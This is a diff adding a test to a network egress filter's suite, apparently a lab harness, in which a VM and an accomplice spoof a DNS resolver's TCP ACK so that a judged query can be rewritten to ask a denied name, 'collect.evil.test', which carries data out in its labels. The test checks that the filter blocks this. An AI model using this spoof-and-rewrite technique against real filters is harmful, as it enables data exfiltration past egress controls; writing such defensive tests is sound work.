@@ -566,6 +566,50 @@ def test_spoofed_server_ack_does_not_let_a_judged_hello_be_rewritten(ng, family)
     assert out[attack]["reset"], f"the rewrite after a spoofed ACK was not cut: {out}"
 
 
+def test_spoofed_resolver_ack_does_not_let_a_judged_query_be_rewritten(ng):
+    """Attack 3c: the same over DNS over TCP: an accomplice spoofs the resolver's ACK of an
+    allowed query the resolver discarded; the VM then rewrites it to ask a denied name."""
+    # The rewrite would carry data out in the denied name's labels. Only an ACK in the
+    # resolver's stream as namegate saw it lets the judged query go. Control: the same
+    # spoof at the resolver's own next sequence number is taken, and the rewrite reaches
+    # the resolver, so the spoof works and the sequence number is what stopped it.
+    vm = ng.vm("vm1")
+    spoof = _SPOOF.replace("sport=443", "sport=53")
+    argv = [ng.inet_ns, labmod.PYTHON, "-c", spoof, ng.router_mac, vm.mac, svc.RESOLVER, VM1]
+    denied, out = {}, {}
+    with inet_capture(ng) as cap:
+        for sport, off_stream in ((20036, True), (20037, False)):
+            # the same length as the allowed name, so the rewrite covers it exactly
+            denied[sport] = f"{secrets.token_hex(8)}.collect.evil.test"
+            allowed = unique("githubusercontent.com")
+            out[sport] = vm_scapy(ng, f"""
+                import subprocess
+                def msg(name, qid):
+                    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=name)))
+                    return struct.pack('>H', len(q)) + q
+                ip, seq, ack = handshake(RESOLVER, {sport}, dport=53)
+                s = listen(RESOLVER, {sport}, dport=53)
+                a, d = msg({allowed!r}, 0x1111), msg({denied[sport]!r}, 0x2222)
+                assert len(a) == len(d), (len(a), len(d))
+                send(seg(ip, {sport}, seq, ack + 100000, a, dport=53))  # the resolver drops it
+                spoof_seq = ack + 777777 if {off_stream} else ack
+                subprocess.run(['ip', 'netns', 'exec'] + {argv!r} +
+                               [str({sport}), str(spoof_seq), str(seq + len(a))], check=True)
+                got = sniff(opened_socket=s, timeout=20, count=1,
+                            lfilter=lambda p: p.haslayer(TCP) and p[TCP].seq == spoof_seq)
+                send(seg(ip, {sport}, seq, ack, d, dport=53))
+                result(spoof_seen=len(got) == 1)
+            """)
+        cap.sync()
+    assert out[20036]["spoof_seen"] and out[20037]["spoof_seen"], out
+    assert wait_until(lambda: queried(ng, denied[20037])), \
+        f"control: the in-stream spoofed ACK did not let the query go: {out}"
+    assert not queried(ng, denied[20036]), \
+        "the resolver read the rewritten denied query after a spoofed ACK"
+    assert not cap.frames_with(denied[20036].split(".")[0].encode()), \
+        "the rewritten denied query reached the internet"
+
+
 # ---------------------------------------------------------------- 4. TCP Fast Open
 
 @contextlib.contextmanager
